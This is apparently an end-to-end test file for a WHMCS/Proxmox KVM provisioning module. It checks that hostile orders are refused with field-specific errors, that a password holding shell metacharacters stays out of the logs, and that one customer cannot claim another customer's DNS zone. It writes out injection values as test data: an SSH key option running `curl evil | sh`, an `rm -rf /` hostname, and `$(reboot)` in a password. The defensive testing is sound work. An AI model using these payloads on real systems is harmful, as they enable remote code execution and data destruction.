// Hostile KVM orders through the PHP module as WHMCS sends them (seed 003: "hostile input —
// hostnames, SSH keys with newlines, passwords with quotes, out-of-range sizes — gets a clear error
// before any API call"). Each refused order answers an error naming the field and saying what is
// wrong, and leaves nothing behind: no service row, no chain, not one request to Proxmox. A
// password with quotes, a backslash and `$(...)` is no attack: it is accepted, reaches the VM's
// cloud-init unchanged (the emulator keeps it hashed, as Proxmox does) and appears in no task log.
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, generateKeyPairSync } from 'node:crypto';
import { DIALECTS } from '../helpers/db.ts';
import { KVM_PROFILE, startKvmLab, type KvmLab } from '../helpers/kvm.ts';
import { duplicates, ok, startE2E, type E2E, type Order } from './whmcs.ts';

const kvm = (serviceId: number, domain: string, password?: string): Order => ({
  serviceId, mode: 'split', domain, product: { configoption1: 'kvm', configoption15: KVM_PROFILE }, ...(password !== undefined ? { password } : {}),
});

/** A real ed25519 public key in OpenSSH's one-line form. */
function ed25519Key(comment: string): string {
  const der = generateKeyPairSync('ed25519').publicKey.export({ type: 'spki', format: 'der' });
  const raw = der.subarray(der.length - 32);
  const str = (b: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(b.length);
    return Buffer.concat([len, b]);
  };
  const blob = Buffer.concat([str(Buffer.from('ssh-ed25519')), str(raw)]);
  return `ssh-ed25519 ${blob.toString('base64')} ${comment}`;
}

/** Whether `stored` is the emulator's hash of `password` (its crypt-like $6$salt$hash). */
function hashes(stored: string, password: string): boolean {
  const m = /^\$6\$([^$]+)\$(.+)$/.exec(stored);
  if (!m) return false;
  const h = createHash('sha512').update(`${m[1]}$${password}`).digest('base64').replace(/\+/g, '.').replace(/=+$/, '');
  return h === m[2];
}

const KEY = ed25519Key('alice@laptop');
const KEY2 = ed25519Key('bob@desk');
const PASSWORD = `Qu"ot'e $(reboot) \`id\` \\n;|&>x`;

interface Hostile { what: string; domain?: string; password?: string; extra?: Record<string, unknown>; field: RegExp; why: RegExp }

const HOSTILE: Hostile[] = [
  { what: 'a hostname with <script>', domain: 'vm<script>.example.org', field: /domain/, why: /letters|ASCII|printable|characters/i },
  { what: 'a hostname with a leading "-"', domain: '-vm.example.org', field: /domain/, why: /must not start with "-"/ },
  { what: 'a hostname label over 63 characters', domain: `${'a'.repeat(64)}.example.org`, field: /domain/, why: /label of 64 characters; at most 63/ },
  { what: 'a homoglyph (Cyrillic а) hostname', domain: 'vm1.ex\u0430mple.org', field: /domain/, why: /ASCII|xn--/ },
  { what: 'a made-up xn-- label', domain: 'xn--zzzzzzzz-9z.example.org', field: /domain/, why: /punycode/ },
  { what: 'the hostname custom field with a space and a quote', extra: { customfields: { hostname: 'vm1 "; rm -rf /' } }, field: /custom_fields\.hostname/, why: /ASCII|letters|label/ },
  { what: 'SSH keys with a bare CR', extra: { customfields: { ssh_keys: `${KEY}\r${KEY2}` } }, field: /custom_fields\.ssh_keys/, why: /carriage return/ },
  { what: 'SSH keys with a NUL byte', extra: { customfields: { ssh_keys: `${KEY}\u0000` } }, field: /custom_fields\.ssh_keys/, why: /NUL/ },
  { what: 'SSH keys that are garbage', extra: { customfields: { ssh_keys: 'this is not a key at all' } }, field: /custom_fields\.ssh_keys/, why: /not a public key type/ },
  { what: 'SSH keys with an injected cloud-init option line', extra: { customfields: { ssh_keys: `${KEY}\nipconfig0: ip=203.0.113.5/24,gw=203.0.113.1` } }, field: /custom_fields\.ssh_keys/, why: /line 2/ },
  { what: 'an SSH key with authorized_keys options', extra: { customfields: { ssh_keys: `command="curl evil | sh" ${KEY}` } }, field: /custom_fields\.ssh_keys/, why: /options/ },
  { what: 'memory 999999999 MB', extra: { configoptions: { memory: '999999999' } }, field: /config_options\.memory/, why: /out of range/ },
  { what: 'a 0 GB disk', extra: { configoptions: { disk: '0' } }, field: /config_options\.disk/, why: /out of range/ },
  { what: '-1 cores', extra: { configoptions: { cores: '-1' } }, field: /config_options\.cores/, why: /whole number/ },
  { what: 'a password with a control character', password: 'Passw\u0007rd-123', field: /password/, why: /control/ },
];

for (const dialect of DIALECTS) {
  describe(`hostile KVM orders through the PHP module (${dialect})`, () => {
    let e: E2E;
    let lab: KvmLab;

    before(async () => {
      e = await startE2E({ dialect, fleet: { web: 1, mail: 1, dns: 0, combo: 0 } });
      for (const [k, v] of [['retry.base_ms', '200'], ['retry.cap_ms', '1000'], ['retry.jitter', '0'], ['scheduler.proxmox-health.interval_s', '86400']]) await e.setting(k!, v!);
      lab = await startKvmLab(e.url, { pdns: { url: e.fleet.pdns!.server.url, apiKey: e.fleet.pdns!.server.apiKey } });
    });
    after(async () => {
      await e?.close();
      await lab?.close();
    });

    test('each hostile order is refused naming the field; nothing is written, Proxmox is not called', async () => {
      const chains0 = Number((await e.db('mod_hostbridge_chains').count({ n: '*' }))[0]!.n);
      const requests0 = lab.pve.requests.length;
      let serviceId = 8400;
      for (const h of HOSTILE) {
        serviceId++;
        const o = kvm(serviceId, h.domain ?? `vm${serviceId}.example.org`, h.password);
        const r = await e.module('CreateAccount', o, h.extra ?? {});
        assert.equal(typeof r, 'string', `${h.what}: the module answers a string`);
        assert.notEqual(r, 'success', `${h.what}: refused`);
        assert.match(String(r), h.field, `${h.what}: the error names the field: ${r}`);
        assert.match(String(r), h.why, `${h.what}: the error says why: ${r}`);
        assert.ok(!String(r).includes('unexpected'), `${h.what}: a clear refusal, not a crash: ${r}`);
        assert.equal(await e.db('mod_hostbridge_services').where('whmcs_service_id', serviceId).first('id'), undefined, `${h.what}: no service row`);
      }
      assert.equal(Number((await e.db('mod_hostbridge_chains').count({ n: '*' }))[0]!.n), chains0, 'no chain was queued');
      assert.deepEqual(lab.pve.requests.slice(requests0), [], 'not one request reached Proxmox');
      assert.equal([...lab.pve.vms().values()].filter((v) => !v.template).length, 0, 'no VM exists');
    });

    test('a password with quotes, a backslash and $(...) is accepted, reaches cloud-init unchanged and is in no log', async () => {
      const o = kvm(8450, 'vm-quotes.example.org', PASSWORD);
      ok(await e.module('CreateAccount', o, { customfields: { ssh_keys: `${KEY}\r\n${KEY2}\r\n` } }), 'CreateAccount');
      const done = await e.waitState(o.serviceId, ['active', 'failed'], 60_000);
      assert.equal(done.state, 'active', JSON.stringify(await e.tasks(o.serviceId)).slice(0, 6000));
      const vm = lab.vmOf(o.serviceId)!;
      assert.ok(vm, 'the VM exists');
      const stored = String(vm.config.cipassword ?? '');
      assert.ok(hashes(stored, PASSWORD), 'cloud-init holds exactly the customer\'s password');
      assert.equal(decodeURIComponent(String(vm.config.sshkeys ?? '')), `${KEY}\n${KEY2}`, 'both keys, one per line, as given');

      // Raw attempt logs and errors (not JSON, where quotes and backslashes would be escaped).
      const svc = await e.db('mod_hostbridge_services').where('whmcs_service_id', o.serviceId).first('id');
      const rows = await e.db('mod_hostbridge_task_attempts').join('mod_hostbridge_tasks', 'mod_hostbridge_tasks.id', 'mod_hostbridge_task_attempts.task_id')
        .where('mod_hostbridge_tasks.service_id', svc.id).select('mod_hostbridge_task_attempts.output', 'mod_hostbridge_task_attempts.error', 'mod_hostbridge_tasks.last_error');
      assert.ok(rows.length > 10, `the deployment's attempts were read (${rows.length})`);
      const text = rows.map((r: Record<string, unknown>) => `${r.output ?? ''}\n${r.error ?? ''}\n${r.last_error ?? ''}`).join('\n');
      assert.match(text, /password set/, 'the cloud-init step ran');
      for (const part of [PASSWORD, '$(reboot)', 'Qu"ot\'e']) assert.ok(!text.includes(part), `"${part}" is in no task log`);
      const params = await e.db('mod_hostbridge_services').where('id', svc.id).first();
      assert.ok(!JSON.stringify(params).includes('$(reboot)'), 'the service row holds the password sealed only');
    });

    /** Every record of a PowerDNS zone but its SOA, as "name TYPE content", sorted. */
    const records = async (zone: string) => {
      const z = await e.fleet.pdns!.zone(zone);
      return (z?.rrsets ?? []).filter((r) => r.type !== 'SOA').flatMap((r) => r.records.map((x) => `${r.name} ${r.type} ${x.content}`)).sort();
    };
    const hosting = (serviceId: number, domain: string): Order => ({ serviceId, mode: 'split', domain });
    const deployed = async (serviceId: number) => {
      const done = await e.waitState(serviceId, ['active', 'failed'], 60_000);
      assert.equal(done.state, 'active', JSON.stringify(await e.tasks(serviceId)).slice(0, 6000));
    };

    test('a host name inside another customer\'s hosting domain is refused; the same customer may use their own', async () => {
      ok(await e.module('CreateAccount', hosting(8460, 'victim.example.net'), { userid: 8 }), 'CreateAccount (hosting, client 8)');
      await deployed(8460);
      const before = await records('victim.example.net');
      assert.ok(before.some((r) => r.startsWith('victim.example.net. A ')), `the hosting zone is on PowerDNS: ${before.join(' | ')}`);

      const requests0 = lab.pve.requests.length;
      for (const [id, extra] of [[8461, {}], [8462, { customfields: { 'hostname|Host name': 'www.victim.example.net' } }]] as const) {
        const o = kvm(id, id === 8461 ? 'www.victim.example.net' : 'vm8462.example.org');
        const r = String(await e.module('CreateAccount', o, extra));
        assert.match(r, id === 8461 ? /domain: "www\.victim\.example\.net" is inside victim\.example\.net, the domain of another customer's hosting service/ : /custom_fields\.hostname\|Host name: .*another customer's/, r);
        assert.equal(await e.db('mod_hostbridge_services').where('whmcs_service_id', id).first('id'), undefined, 'no service row');
      }
      assert.deepEqual(lab.pve.requests.slice(requests0), [], 'not one request reached Proxmox');
      assert.deepEqual(await records('victim.example.net'), before, 'the customer\'s zone is untouched');

      // The domain's own customer may name a VM in it: its A record goes into their zone.
      const own = kvm(8463, 'vps.victim.example.net');
      ok(await e.module('CreateAccount', own, { userid: 8 }), 'CreateAccount (KVM, client 8)');
      await deployed(own.serviceId);
      const v4 = (await lab.addresses(own.serviceId)).find((ip) => ip.includes('.'))!;
      const after = await records('victim.example.net');
      assert.ok(after.includes(`vps.victim.example.net. A ${v4}`), after.join(' | '));
      assert.deepEqual(after.filter((r) => !r.startsWith('vps.')), before, 'nothing else of the zone changed');
    });

    test('a hosting domain taken after the VM was named: the VM\'s records stay out of that zone, and its terminate removes nothing there', async () => {
      const vm = kvm(8470, 'www.late.example.net');
      ok(await e.module('CreateAccount', vm), 'CreateAccount (KVM, client 7)');
      await deployed(vm.serviceId);
      ok(await e.module('CreateAccount', hosting(8471, 'late.example.net'), { userid: 9 }), 'CreateAccount (hosting, client 9)');
      await deployed(8471);
      const before = await records('late.example.net');
      assert.ok(before.length > 0 && duplicates(before).length === 0, before.join(' | '));

      ok(await e.module('VerifyRepair', vm), 'VerifyRepair');
      await deployed(vm.serviceId);
      const svc = await e.db('mod_hostbridge_services').where('whmcs_service_id', vm.serviceId).first('id');
      const chain = await e.db('mod_hostbridge_chains').where({ service_id: svc.id, operation: 'verify-repair' }).orderBy('id', 'desc').first('id');
      const dnsTask = await e.db('mod_hostbridge_tasks').where({ chain_id: chain.id, step: `dns.${e.reg.pdns}` }).first('id');
      const out = (await e.db('mod_hostbridge_task_attempts').where('task_id', dnsTask.id).pluck('output')).join('\n');
      assert.match(out, /· fwd ERR www\.late\.example\.net: zone late\.example\.net is in late\.example\.net, the domain of another customer's hosting service/, out);
      assert.deepEqual(await records('late.example.net'), before, 'the other customer\'s zone is untouched by the repair');

      ok(await e.module('TerminateAccount', vm), 'TerminateAccount (KVM)');
      const gone = await e.waitState(vm.serviceId, ['terminated', 'error_terminate'], 60_000);
      assert.equal(gone.state, 'terminated');
      assert.deepEqual(await records('late.example.net'), before, 'the other customer\'s zone is untouched by the terminate');
    });

    test('on the running VM: a bad new password or an out-of-range package is refused naming the field, with no chain and no Proxmox call', async () => {
      const o = kvm(8450, 'vm-quotes.example.org', PASSWORD);
      const svc = await e.db('mod_hostbridge_services').where('whmcs_service_id', o.serviceId).first('id', 'names', 'params');
      const chains0 = Number((await e.db('mod_hostbridge_chains').where('service_id', svc.id).count({ n: '*' }))[0]!.n);
      const requests0 = lab.pve.requests.length;
      const refusals: Array<[string, Record<string, unknown>, RegExp]> = [
        ['ChangePassword', { password: 'short' }, /password: .*at least 8/],
        ['ChangePassword', { password: 'x'.repeat(129) }, /password: .*at most 128/],
        ['ChangePassword', { password: 'Passw\u0007rd-123' }, /password: .*control/],
        ['ChangePackage', { configoptions: { memory: '999999999' } }, /config_options\.memory: .*out of range/],
        ['ChangePackage', { configoptions: { cores: '-1' } }, /config_options\.cores: .*whole number/],
        ['ChangePackage', { configoptions: { disk: '0' } }, /config_options\.disk: .*out of range/],
      ];
      for (const [fn, extra, want] of refusals) {
        // WHMCS hands ChangePassword the new password as the service's password.
        const r = fn === 'ChangePassword' ? await e.module(fn, { ...o, password: String(extra.password) }) : await e.module(fn, o, extra);
        assert.match(String(r), want, `${fn} ${JSON.stringify(extra).slice(0, 60)}: ${r}`);
      }
      assert.equal(Number((await e.db('mod_hostbridge_chains').where('service_id', svc.id).count({ n: '*' }))[0]!.n), chains0, 'no chain was queued');
      assert.deepEqual(lab.pve.requests.slice(requests0), [], 'not one request reached Proxmox');
      const after = await e.db('mod_hostbridge_services').where('id', svc.id).first('names', 'params');
      assert.deepEqual(after, { names: svc.names, params: svc.params }, 'the stored password and plan are unchanged');
      assert.ok(hashes(String(lab.vmOf(o.serviceId)!.config.cipassword ?? ''), PASSWORD), 'the VM keeps its password');
    });
  });
}
